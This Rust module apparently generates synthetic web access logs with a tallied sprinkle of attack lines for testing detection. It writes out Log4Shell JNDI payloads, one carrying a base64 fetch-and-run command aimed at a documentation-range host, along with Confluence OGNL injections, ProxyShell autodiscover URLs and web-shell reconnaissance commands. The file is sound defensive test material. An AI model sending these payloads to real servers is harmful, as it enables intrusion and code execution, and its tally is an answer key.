//! Web access log lines: Apache/nginx "combined" and IIS W3C, with a seeded one-in-N sprinkle of
//! the exploitation that AA24-190A describes (Log4Shell in the query or the User-Agent,
//! Confluence OGNL injection, ProxyShell's autodiscover path confusion, web-shell commands).
//!
//! Benign traffic is drawn from tables that never contain an attack's marker, so the tally of
//! attack lines is an exact answer key.

use crate::clock::Clock;
use crate::rng::Rng;
use crate::tally::Tally;
use std::io::Write;

/// Which access-log layout to write.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum WebLayout {
    /// Apache/nginx combined: `ip - user [time] "GET /p?q HTTP/1.1" 200 123 "ref" "ua"`.
    Combined,
    /// IIS W3C extended, with a `#Fields:` header.
    Iis,
}

/// Attack kinds, in the order the tally reports them.
pub const WEB_ATTACKS: [&str; 5] = [
    "log4shell_query",
    "log4shell_user_agent",
    "confluence_ognl",
    "proxyshell_autodiscover",
    "webshell_command",
];

const IIS_HEADER: &str = "#Software: Microsoft Internet Information Services 10.0\r\n\
#Version: 1.0\r\n\
#Date: 2024-03-01 00:00:00\r\n\
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n";

const AGENTS: [&str; 10] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17231; Pro)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.66",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.64 Mobile Safari/537.36",
];

const REFERERS: [&str; 6] = [
    "-",
    "-",
    "https://www.example.com/",
    "https://www.google.com/",
    "https://intranet.example.com/portal/",
    "https://www.bing.com/",
];

const STATIC: [&str; 12] = [
    "/",
    "/index.html",
    "/css/site.css",
    "/js/app.js",
    "/js/vendor.min.js",
    "/images/logo.png",
    "/images/banner.jpg",
    "/favicon.ico",
    "/robots.txt",
    "/static/fonts/roboto.woff2",
    "/about/team.html",
    "/contact",
];

const WORDS: [&str; 12] = [
    "report",
    "vpn",
    "holiday",
    "pricing",
    "invoice",
    "printer",
    "password+reset",
    "roadmap",
    "benefits",
    "laptop",
    "mfa",
    "timesheet",
];

const SHELL_NAMES: [&str; 6] = ["shell", "error", "help", "aaa", "x", "cmdx"];

const COMMANDS: [&str; 6] = [
    "whoami",
    "ipconfig%20%2Fall",
    "net%20user",
    "tasklist",
    "net%20group%20%22domain%20admins%22%20%2Fdomain",
    "systeminfo",
];

const DOMAINS: [&str; 4] = ["evil.example", "x.test", "mail.example.org", "poc.invalid"];

/// The request-shaped pieces of one line, before layout.
#[derive(Debug, Default)]
struct Request {
    method: &'static str,
    stem: Vec<u8>,
    query: Vec<u8>,
    agent: Vec<u8>,
    referer: &'static str,
    user: &'static str,
    status: u16,
}

/// Streams web access log lines for one seed.
#[derive(Debug)]
pub struct WebGen {
    rng: Rng,
    clock: Clock,
    layout: WebLayout,
    attack_every: u64,
    header_done: bool,
    req: Request,
}

impl WebGen {
    /// A generator for `layout`; about one line in `attack_every` is an attack (0: none).
    pub fn new(seed: u64, layout: WebLayout, attack_every: u64) -> Self {
        WebGen {
            rng: Rng::new(seed),
            clock: Clock::new(),
            layout,
            attack_every,
            header_done: false,
            req: Request::default(),
        }
    }

    /// Append the next line (and, for IIS, the header before the first line) to `out`.
    pub fn next_record(&mut self, out: &mut Vec<u8>, tally: &mut Tally) {
        if !self.header_done {
            self.header_done = true;
            if self.layout == WebLayout::Iis {
                out.extend_from_slice(IIS_HEADER.as_bytes());
            }
        }
        let step = self.rng.below(400);
        self.clock.advance(step);
        self.req.stem.clear();
        self.req.query.clear();
        self.req.agent.clear();
        self.req.referer = "-";
        self.req.user = "-";
        if self.rng.one_in(self.attack_every) {
            let kind = self.attack();
            tally.bump(kind);
        } else {
            self.benign();
        }
        tally.records += 1;
        let ip = self.rng.next_u64();
        let size = self.rng.range(120, 48_000);
        match self.layout {
            WebLayout::Combined => self.write_combined(out, ip, size),
            WebLayout::Iis => self.write_iis(out, ip, size),
        }
    }

    fn benign(&mut self) {
        let rng = &mut self.rng;
        let r = &mut self.req;
        r.method = "GET";
        r.status = 200;
        r.referer = rng.pick(&REFERERS).copied().unwrap_or("-");
        let agent = rng.pick(&AGENTS).copied().unwrap_or("-");
        r.agent.extend_from_slice(agent.as_bytes());
        match rng.below(20) {
            0..=8 => {
                let p = rng.pick(&STATIC).copied().unwrap_or("/");
                r.stem.extend_from_slice(p.as_bytes());
                if rng.one_in(5) {
                    r.status = 304;
                }
            }
            9..=11 => {
                let _ = write!(r.stem, "/products/{}", rng.range(1000, 99_999));
                if rng.one_in(3) {
                    let _ = write!(r.query, "ref=home&lang=en&page={}", rng.range(1, 40));
                }
            }
            12..=13 => {
                let w = rng.pick(&WORDS).copied().unwrap_or("vpn");
                r.stem.extend_from_slice(b"/search");
                let _ = write!(r.query, "q={w}&page={}", rng.range(1, 9));
            }
            14 => {
                let _ = write!(r.stem, "/api/v1/items/{}", rng.range(1, 500_000));
                r.query.extend_from_slice(b"fields=name,price&format=json");
                r.user = "svc-shop";
            }
            15 => {
                r.method = "POST";
                r.stem.extend_from_slice(b"/owa/auth.owa");
                r.status = 302;
            }
            16 => {
                r.method = "POST";
                r.stem.extend_from_slice(b"/autodiscover/autodiscover.xml");
            }
            17 => {
                let _ = write!(
                    r.stem,
                    "/confluence/display/ENG/Page+{}",
                    rng.range(1, 3000)
                );
            }
            18 => {
                let _ = write!(
                    r.stem,
                    "/blog/2024/{:02}/post-{}.html",
                    rng.range(1, 12),
                    rng.range(1, 400)
                );
                let _ = write!(r.query, "utm_source=newsletter&utm_medium=email");
            }
            _ => {
                let _ = write!(r.stem, "/missing/{}.php", rng.range(1, 90));
                r.status = 404;
            }
        }
    }

    /// Fill the request with one attack; returns its kind.
    fn attack(&mut self) -> &'static str {
        let rng = &mut self.rng;
        let r = &mut self.req;
        let cb = [198, 51, 100, rng.range(1, 254) as u8];
        let tok = rng.next_u64() & 0xff_ffff;
        r.method = "GET";
        r.status = 200;
        let agent = rng.pick(&AGENTS).copied().unwrap_or("-");
        let kind_index = rng.below(WEB_ATTACKS.len() as u64) as usize;
        let kind = WEB_ATTACKS
            .get(kind_index)
            .copied()
            .unwrap_or("log4shell_query");
        let [a, b, c, d] = cb;
        match kind_index {
            0 => {
                r.agent.extend_from_slice(agent.as_bytes());
                match rng.below(4) {
                    0 => {
                        r.stem.extend_from_slice(b"/");
                        let _ = write!(
                            r.query,
                            "x=%24%7Bjndi%3Aldap%3A%2F%2F{a}.{b}.{c}.{d}%3A1389%2F{tok:x}%7D"
                        );
                    }
                    1 => {
                        r.stem.extend_from_slice(b"/search");
                        let _ = write!(r.query, "q=${{jndi:ldap://{a}.{b}.{c}.{d}:1389/{tok:x}}}");
                    }
                    2 => {
                        r.stem.extend_from_slice(b"/api/v1/items");
                        let _ = write!(r.query, "id=%24%7B%24%7Blower%3Aj%7Dndi%3A%24%7Blower%3Al%7Ddap%3A%2F%2F{a}.{b}.{c}.{d}%2F{tok:x}%7D");
                    }
                    _ => {
                        r.stem.extend_from_slice(b"/");
                        let _ = write!(r.query, "token=${{jndi:ldap://{a}.{b}.{c}.{d}:1389/Basic/Command/Base64/Y3VybCAtcyAxOTguNTEuMTAwLjIzL2wuc2h8c2g=}}");
                    }
                }
                r.status = if rng.one_in(2) { 400 } else { 200 };
            }
            1 => {
                let p = rng.pick(&STATIC).copied().unwrap_or("/");
                r.stem.extend_from_slice(p.as_bytes());
                let _ = match rng.below(3) {
                    0 => write!(r.agent, "${{jndi:ldap://{a}.{b}.{c}.{d}:1389/{tok:x}}}"),
                    1 => write!(r.agent, "Mozilla/5.0 ${{jndi:dns://{a}.{b}.{c}.{d}/{tok:x}}}"),
                    _ => write!(r.agent, "${{${{env:NaN:-j}}ndi${{env:NaN:-:}}${{env:NaN:-l}}dap${{env:NaN:-:}}//{a}.{b}.{c}.{d}/{tok:x}}}"),
                };
            }
            2 => {
                r.agent.extend_from_slice(agent.as_bytes());
                let cmd = rng
                    .pick(&["id", "whoami", "cat%20%2Fetc%2Fpasswd"])
                    .copied()
                    .unwrap_or("id");
                match rng.below(3) {
                    0 => {
                        let _ = write!(r.stem, "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22{cmd}%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/");
                        r.status = 302;
                    }
                    1 => {
                        r.stem
                            .extend_from_slice(b"/pages/doenterpagevariables.action");
                        r.query.extend_from_slice(b"queryString=%5cu0027%2b%7bClass.forName%28%5cu0027javax.script.ScriptEngineManager%5cu0027%29.newInstance%28%29.getEngineByName%28%5cu0027js%5cu0027%29%7d%2b%5cu0027");
                    }
                    _ => {
                        r.method = "POST";
                        r.stem
                            .extend_from_slice(b"/pages/createpage-entervariables.action");
                        let _ = write!(r.query, "SpaceKey=x{}", tok % 97);
                    }
                }
            }
            3 => {
                let dom = rng.pick(&DOMAINS).copied().unwrap_or("x.test");
                r.agent.extend_from_slice(
                    rng.pick(&[agent, "python-requests/2.26.0", "Mozilla/5.0 zgrab/0.x"])
                        .copied()
                        .unwrap_or(agent)
                        .as_bytes(),
                );
                r.stem.extend_from_slice(b"/autodiscover/autodiscover.json");
                let _ = match rng.below(3) {
                    0 => write!(r.query, "@{dom}/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@{dom}"),
                    1 => {
                        r.method = "POST";
                        write!(r.query, "@{dom}/autodiscover/autodiscover.xml?&Email=autodiscover/autodiscover.json%3F@{dom}")
                    }
                    _ => write!(r.query, "@{dom}/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z&Email=autodiscover/autodiscover.json%3F@{dom}"),
                };
            }
            _ => {
                r.agent.extend_from_slice(agent.as_bytes());
                let name = rng.pick(&SHELL_NAMES).copied().unwrap_or("x");
                let cmd = rng.pick(&COMMANDS).copied().unwrap_or("whoami");
                match rng.below(3) {
                    0 => {
                        let _ = write!(r.stem, "/uploads/{name}.jsp");
                        let _ = write!(r.query, "cmd={cmd}");
                    }
                    1 => {
                        let _ = write!(r.stem, "/aspnet_client/system_web/{name}.aspx");
                        let _ = write!(r.query, "cmd=cmd.exe%20%2Fc%20{cmd}");
                    }
                    _ => {
                        let _ = write!(r.stem, "/images/{name}.php");
                        let _ = write!(r.query, "exec={cmd}");
                    }
                }
            }
        }
        kind
    }

    fn write_combined(&self, out: &mut Vec<u8>, ip: u64, size: u64) {
        let r = &self.req;
        let _ = write!(
            out,
            "{}.{}.{}.{} - {} [",
            client_first_octet(ip),
            (ip >> 8) & 0xff,
            (ip >> 16) & 0xff,
            ((ip >> 24) & 0xfd) + 1,
            r.user
        );
        out.extend_from_slice(self.clock.apache());
        out.extend_from_slice(b"] \"");
        out.extend_from_slice(r.method.as_bytes());
        out.push(b' ');
        out.extend_from_slice(&r.stem);
        if !r.query.is_empty() {
            out.push(b'?');
            out.extend_from_slice(&r.query);
        }
        let size = if r.status == 304 { 0 } else { size };
        let _ = write!(
            out,
            " HTTP/1.1\" {} {} \"{}\" \"",
            r.status, size, r.referer
        );
        escape_quoted(out, &r.agent);
        out.extend_from_slice(b"\"\n");
    }

    fn write_iis(&self, out: &mut Vec<u8>, ip: u64, size: u64) {
        let r = &self.req;
        out.extend_from_slice(self.clock.iis_date());
        out.push(b' ');
        out.extend_from_slice(self.clock.iis_time());
        out.extend_from_slice(b" 10.0.0.12 ");
        out.extend_from_slice(r.method.as_bytes());
        out.push(b' ');
        out.extend_from_slice(&r.stem);
        out.push(b' ');
        if r.query.is_empty() {
            out.push(b'-');
        } else {
            out.extend_from_slice(&r.query);
        }
        let _ = write!(
            out,
            " 443 {} {}.{}.{}.{} ",
            r.user,
            client_first_octet(ip),
            (ip >> 8) & 0xff,
            (ip >> 16) & 0xff,
            ((ip >> 24) & 0xfd) + 1
        );
        for &b in &r.agent {
            out.push(if b == b' ' { b'+' } else { b });
        }
        let _ = writeln!(out, " {} {} 0 0 {}", r.referer, r.status, (size % 900) + 15);
    }
}

/// Client addresses from a handful of public /8s (never 0, 10, 127 or multicast).
fn client_first_octet(ip: u64) -> u64 {
    const FIRST: [u64; 12] = [23, 31, 45, 62, 81, 93, 104, 151, 178, 185, 203, 212];
    FIRST
        .get(((ip >> 32) % FIRST.len() as u64) as usize)
        .copied()
        .unwrap_or(23)
}

/// Apache escapes `"` and `\` inside the quoted User-Agent field.
fn escape_quoted(out: &mut Vec<u8>, text: &[u8]) {
    for &b in text {
        if b == b'"' || b == b'\\' {
            out.push(b'\\');
        }
        out.push(b);
    }
}
